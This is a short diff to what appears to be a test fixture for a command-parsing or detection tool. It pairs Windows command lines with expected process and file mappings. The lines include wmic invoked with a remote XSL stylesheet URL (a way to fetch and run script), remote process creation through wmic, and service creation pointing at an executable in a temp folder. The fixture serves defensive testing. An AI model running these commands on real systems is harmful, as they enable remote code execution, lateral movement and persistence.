@@ -214,6 +214,12 @@ wmic /node:10.0.0.5 process call create 'cmd /c whoami'
     -> wmic.exe > cmd; cmd.exe > whoami
 wmic cpu get name
     ->
+wmic os get /format:"https://a.example.org/b.xsl"
+    -> wmic.exe > https://{remote}/b.xsl
+wmic process list /format:C:\ProgramData\a.xsl
+    -> wmic.exe > \programdata\a.xsl
+wmic os get caption /format:csv
+    ->
 sc create svc binPath= "C:\Temp\x.exe -k" start= auto
     -> sc.exe > \temp\x.exe
 sc \\srv config svc binpath= C:\Temp\x.exe
